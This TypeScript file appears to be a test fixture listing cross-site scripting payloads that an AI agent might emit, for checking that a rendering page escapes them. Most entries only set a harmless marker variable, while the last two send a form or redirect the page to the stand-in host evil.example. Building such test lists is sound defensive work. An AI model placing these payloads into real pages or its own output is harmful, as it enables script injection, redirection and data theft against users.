// What agents could write to make a page run it.

export const PAYLOADS = [
  `<script>window.__xss=1</script>`,
  `<img src=x onerror="window.__xss=1">`,
  `<svg onload="window.__xss=1"><animate onbegin="window.__xss=1" attributeName=x dur=1s></svg>`,
  `"><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `[link](javascript:window.__xss=1) ![img](x"onerror="window.__xss=1)`,
  `[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)`,
  `<a href="javascript:window.__xss=1">click</a><details open ontoggle="window.__xss=1">`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=window.__xss=1&gt;">`,
  "```html\n<img src=x onerror=window.__xss=1>\n```",
  `</textarea></title></style><script>window.__xss=1</script>`,
  `\u001b]8;;javascript:window.__xss=1\u0007link\u001b]8;;\u0007 \u001b[31m<b onmouseover=window.__xss=1>red\u001b[0m`,
  `{{constructor.constructor('window.__xss=1')()}} \${window.__xss=1} __proto__ constructor`,
  `\u202etxt.exe\u202c شكرا \u2066<script>window.__xss=1</script>\u2069`,
  `<form action="https://evil.example"><input name=x><button autofocus onfocus="window.__xss=1">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`,
];
